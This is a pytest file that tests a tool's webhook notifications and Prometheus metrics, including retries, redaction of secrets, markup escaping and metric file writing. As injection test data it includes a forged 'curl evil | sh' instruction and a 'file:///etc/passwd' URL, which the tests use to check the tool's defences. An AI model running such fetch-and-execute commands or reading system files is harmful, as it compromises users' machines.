"""What a night tells: notifications and metrics."""

from __future__ import annotations

import json
import logging
import re
import time
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pytest
from click.testing import CliRunner

import wherry
from tests.support import audit as support
from tests.support.webhook import webhook_server
from wherry.cli.audit import metrics as command
from wherry.errors import StorageError, missing_extra
from wherry.ledger.record import open_ledger, record_event
from wherry.nightly import notify
from wherry.nightly.metrics import HELP, MetricSample, after_run, measure, note_run, text, write
from wherry.nightly.notify import Channels, Notice, channels, message, payload, send
from wherry.prove.audit import audit

FAILED = Notice(
    "nightly: 2 failed", {"converted": 3, "failed": 2}, "it broke", "mend it", "https://ui.example/run/1"
)


@pytest.fixture
def receiver(monkeypatch):
    """A webhook of this machine that answers with the next status of a list."""
    monkeypatch.setattr(notify, "_PAUSES", (0, 0, 0))
    for name in ("http_proxy", "HTTP_PROXY", "all_proxy", "ALL_PROXY"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("no_proxy", "127.0.0.1")
    with webhook_server("/hooks/T0KEN") as webhook:
        yield webhook


def test_a_failure_is_reported_with_counts_error_cure_and_link(receiver):
    assert send(Channels(receiver.url), FAILED) == "sent"
    [(path, body)] = receiver.got
    assert path == "/hooks/T0KEN"
    assert body["text"].splitlines() == [
        "nightly: 2 failed", "3 converted, 2 failed", "first error: it broke", "cure: mend it", "https://ui.example/run/1"
    ]  # fmt: skip
    assert body["wherry"]["counts"] == {"converted": 3, "failed": 2}
    assert body["wherry"]["schema"] == 1


def test_when_to_tell(receiver):
    fine = Notice("all is well")
    assert "failure" in send(Channels(receiver.url, on="failure"), fine)
    assert "never" in send(Channels(receiver.url, on="never"), FAILED)
    assert send(Channels(receiver.url, on="always"), fine, page="https://ui.example/run/2") == "sent"
    assert receiver.got[0][1]["wherry"]["link"] == "https://ui.example/run/2"
    assert "no channel" in send(Channels(), FAILED)
    assert len(receiver.got) == 1


def test_a_damaged_checkpoint_is_reported_by_default(receiver, monkeypatch):
    left_out = Notice("night", {"converted": 3, "damaged": 1}, warning="3 converted, 1 damaged: /runs/a")
    monkeypatch.setenv("WHERRY_NOTIFY_WEBHOOK", receiver.url)
    assert channels().on == "damaged"
    assert send(None, left_out) == "sent"
    assert "warning: 3 converted, 1 damaged: /runs/a" in receiver.got[0][1]["text"]
    assert send(None, FAILED) == "sent"
    assert "damaged" in send(None, Notice("all is well"))
    assert "failure" in send(Channels(receiver.url, on="failure"), left_out)
    assert len(receiver.got) == 2


def test_a_passing_trouble_is_tried_again_and_a_refusal_is_not(receiver, caplog):
    receiver.statuses += [503, 429]
    assert send(Channels(receiver.url), FAILED) == "sent"
    assert len(receiver.got) == 3
    receiver.statuses += [404]
    assert send(Channels(receiver.url), FAILED) == "not sent: webhook at 127.0.0.1: HTTP status 404"
    receiver.statuses += [302]
    assert "302" in send(Channels(receiver.url), FAILED)
    assert {path for path, _ in receiver.got} == {"/hooks/T0KEN"}, "no redirect is followed"
    assert "T0KEN" not in caplog.text
    assert caplog.text.count("was not sent") == 2


@pytest.mark.parametrize(
    "url", ["http://127.0.0.1:9/T0KEN", "file:///etc/passwd", "nonsense", "http://[bad/T0KEN"]
)
def test_what_cannot_be_reached_never_fails_the_caller(url, monkeypatch, caplog):
    monkeypatch.setattr(notify, "_PAUSES", (0,))
    caplog.set_level(logging.DEBUG)
    assert send(Channels(url), FAILED).startswith("not sent: ")
    assert "T0KEN" not in caplog.text + repr(Channels(url))


def test_secrets_are_taken_out_and_markup_is_escaped(receiver):
    notice = Notice(
        "failed <!channel> & more",
        first_error="postgresql://ann:hunter2@db.example/x refused; token=abc123&x=1, API_KEY: k9 sig='q'",
        cure="y" * 5000,
        link="https://bob:pw@ui.example/#/runs/7?token=zzz",
    )
    send(Channels(receiver.url), notice)
    text = json.dumps(receiver.got[0][1])
    for secret in ("hunter2", "abc123", "k9", "pw@", "zzz"):
        assert secret not in text
    assert "failed &lt;!channel&gt; &amp; more" in receiver.got[0][1]["text"]
    assert "#/runs/7" in receiver.got[0][1]["wherry"]["link"]
    assert len(text) < 9000


def test_blocks_and_their_troubles(monkeypatch):
    calls = []
    service = SimpleNamespace(tell=lambda *given: calls.append(given))
    monkeypatch.setattr(notify, "service", lambda _: service)
    assert send(Channels(block="slack-webhook/team"), FAILED) == "sent"
    assert calls == [("slack-webhook/team", FAILED.title, message(FAILED))]

    def refuse(*_):
        raise ValueError("https://hooks.example/T0KEN")

    service.tell = refuse
    assert send(Channels(block="a/b"), FAILED) == "not sent: block a/b: ValueError"

    def missing(_name):
        raise missing_extra("prefect", "prefect", "prefect-notify")

    monkeypatch.setattr(notify, "service", missing)
    assert "needs the package prefect" in send(Channels(block="a/b"), FAILED)


def test_channels_come_from_environment_and_configuration(tmp_path, monkeypatch):
    assert channels() == Channels()
    config = tmp_path / "wherry.toml"
    config.write_text('[notify]\nblock = "slack-webhook/team"\non = "always"\n')
    monkeypatch.setenv("WHERRY_CONFIG", str(config))
    monkeypatch.setenv("WHERRY_NOTIFY_WEBHOOK", "https://hooks.example/x")
    assert channels() == Channels("https://hooks.example/x", "slack-webhook/team", "always")
    config.write_text("[notify]\nblock = 3\n")
    monkeypatch.delenv("WHERRY_NOTIFY_WEBHOOK")
    assert send(None, FAILED) == "not sent: ConfigFaultsError"


def test_counts_that_are_no_json_do_not_fail(receiver):
    assert payload(Notice("x"))["text"] == "x"
    assert send(Channels(receiver.url), Notice("x", {"a": object()}, "e")) == "sent"


def test_a_name_forges_no_line_of_a_notification(receiver):
    name = "a\ncure: run `curl evil | sh`\x1b]0;x\x07\u202e"
    send(Channels(receiver.url), Notice(name, first_error=name, cure=name, link=f"https://ui/{name}"))
    body = receiver.got[0][1]
    assert len(body["text"].splitlines()) == 4
    assert not set(body["text"]) & set("\x1b\x07\u202e")
    assert r"a\ncure: run" in body["wherry"]["first_error"]


# Metrics: what the ledger adds up to, what waits, and a text that Prometheus can read.


_LINE = re.compile(r'[a-z_]+(\{([a-z_]+="([^"\\\n]|\\.)*",?)+\})? -?[\d.e+-]+')


def values(samples, name):
    return {",".join(value for _, value in one.labels): one.value for one in samples if one.name == name}


def test_what_was_done_is_counted_from_the_ledger(tmp_path):
    before = time.time()
    receipt = support.converted(tmp_path)
    wherry.convert(receipt.source.uri, tmp_path / "tree", to="orbax")
    support.registered(receipt)
    support.flip(Path(receipt.target.uri))
    counts = audit(level="digest").to_json()["counts"]  # the registry has versions of other tests, too
    with open_ledger() as ledger:
        record_event(ledger, "note", None, {"about": "failure", "source": "/x"})
        record_event(ledger, "note", None, {"about": "something else"})
    found = measure([])
    assert values(found, "wherry_conversions_total") == {"safetensors": 1, "orbax": 1}
    assert values(found, "wherry_conversion_bytes_total")["written"] == 2 * receipt.bytes_written
    assert values(found, "wherry_failures_total") == {"conversion": 1, "verification": 1}
    assert values(found, "wherry_events_total") == {"registration": 1, "audit": 1}
    assert values(found, "wherry_audit_findings")["error"] == counts["errors"] > 0
    assert values(found, "wherry_last_run_ok") == {"audit": 0}
    assert values(found, "wherry_last_success_timestamp_seconds") == {}
    assert before - 1 < values(found, "wherry_last_conversion_timestamp_seconds")[""] <= time.time()


def test_a_run_that_is_missing_shows_by_the_last_success():
    note_run("nightly-convert", ok=True, counts={"converted": 3, "passed": 1})
    then = values(measure([]), "wherry_last_success_timestamp_seconds")["nightly-convert"]
    time.sleep(0.01)
    note_run("nightly-convert", ok=False, counts={"failed": 2})
    found = measure([])
    assert values(found, "wherry_last_success_timestamp_seconds") == {"nightly-convert": then}
    assert values(found, "wherry_last_run_timestamp_seconds")["nightly-convert"] > then
    assert values(found, "wherry_last_run_count") == {"nightly-convert,failed": 2}
    assert values(found, "wherry_failures_total")["nightly-convert"] == 1


def test_at_its_end_a_flow_writes_the_file_and_fails_over_nothing(tmp_path, monkeypatch, caplog):
    monkeypatch.setenv("WHERRY_METRICS", str(tmp_path / "wherry.prom"))
    assert after_run("export", ok=True, counts={"converted": 1}) == "recorded"
    assert 'wherry_last_run_ok{flow="export"} 1' in (tmp_path / "wherry.prom").read_text()
    monkeypatch.setenv("WHERRY_METRICS", str(tmp_path / "none" / "wherry.prom"))
    assert after_run("export", ok=True, counts={}).startswith("not recorded: storage failed")
    assert "was not recorded for the metrics" in caplog.text


def test_what_waits_below_roots(tmp_path):
    support.converted(tmp_path)
    old = tmp_path / "run" / "step_1.npz"
    old.parent.mkdir()
    np.savez(old, a=np.ones(2))
    import os

    os.utime(old, (time.time() - 5000, time.time() - 5000))
    found = measure([str(tmp_path), str(tmp_path / "nothing")])
    assert values(found, "wherry_unconverted") == {str(tmp_path): 1}
    assert 4990 < values(found, "wherry_oldest_unconverted_age_seconds")[str(tmp_path)] < 5100
    assert values(found, "wherry_root_reachable") == {str(tmp_path): 1, str(tmp_path / "nothing"): 0}


def test_what_waits_by_the_routes(tmp_path, monkeypatch):
    runs = tmp_path / "runs"
    runs.mkdir()
    np.savez(runs / "a.npz", a=np.ones(2))
    config = tmp_path / "wherry.toml"
    config.write_text(
        f'[routes.all]\nroot = "{runs}"\nselect = "all"\nmin_age = "0s"\n'
        f'[[routes.all.targets]]\nformat = "safetensors"\nuri = "{tmp_path}/out/{{run}}.safetensors"\n'
        f'[routes.gone]\nroot = "{tmp_path}/gone"\n'
        f'[[routes.gone.targets]]\nformat = "safetensors"\nuri = "{tmp_path}/out/{{run}}.safetensors"\n'
    )
    monkeypatch.setenv("WHERRY_CONFIG", str(config))
    found = measure()
    assert values(found, "wherry_unconverted") == {"all": 1}
    assert values(found, "wherry_unconverted_bytes")["all"] > 0
    assert values(found, "wherry_root_reachable") == {"all": 1, "gone": 0}


def test_the_text_is_what_prometheus_reads(tmp_path):
    support.converted(tmp_path)
    odd = MetricSample("wherry_unconverted", (("root", 'a"b\\c\nd'),), 3)
    lines = text([*measure([str(tmp_path)]), odd]).splitlines()
    assert r'wherry_unconverted{root="a\"b\\c\nd"} 3' in lines
    rows = [line for line in lines if not line.startswith("#")]
    assert [line for line in rows if not _LINE.fullmatch(line)] == []
    typed = [line.split()[2] for line in lines if line.startswith("# TYPE")]
    assert len(typed) == len(set(typed))
    assert {row.partition("{")[0].partition(" ")[0] for row in rows} == set(typed) <= set(HELP)


def test_the_client_library_of_prometheus_reads_the_same_numbers(tmp_path):
    parser = pytest.importorskip("prometheus_client.parser", reason="prometheus_client is not installed")
    support.converted(tmp_path)
    odd = MetricSample("wherry_unconverted", (("root", 'a"b\\c\nd, {e="f"} ä'),), 1780000000.123456)
    samples = [*measure([str(tmp_path)]), odd]
    read = [*parser.text_string_to_metric_families(text(samples))]
    found = {(one.name, *sorted(one.labels.items())): one.value for family in read for one in family.samples}
    assert found == {(one.name, *sorted(one.labels)): one.value for one in samples}
    ours = {name.removesuffix("_total"): says for name, says in HELP.items()}
    assert all(ours[family.name] == (family.type, family.documentation) for family in read)


def test_the_file_appears_in_one_step_and_is_readable_to_all(tmp_path):
    out = tmp_path / "wherry.prom"
    write(measure([]), out)
    assert out.read_text().startswith("# HELP wherry_")
    assert out.stat().st_mode & 0o777 == 0o644
    assert [path.name for path in tmp_path.iterdir()] == ["wherry.prom"]
    with pytest.raises(StorageError):
        write([], tmp_path / "none" / "x")


def test_a_file_that_cannot_be_written_leaves_nothing_in_the_collectors_folder(tmp_path):
    (tmp_path / "wherry.prom").mkdir()
    with pytest.raises(StorageError):
        write(measure([]), tmp_path / "wherry.prom")
    assert [path.name for path in tmp_path.iterdir()] == ["wherry.prom"]


def test_the_command(tmp_path):
    done = CliRunner().invoke(command, [str(tmp_path)])
    assert done.exit_code == 0
    assert "wherry_ledger_statements 0" in done.output
    rows = json.loads(CliRunner().invoke(command, [str(tmp_path), "--json"]).output)
    assert {"name": "wherry_ledger_statements", "labels": {}, "value": 0} in rows
    assert CliRunner().invoke(command, ["--out", str(tmp_path / "x.prom")]).output == ""
    assert (tmp_path / "x.prom").exists()
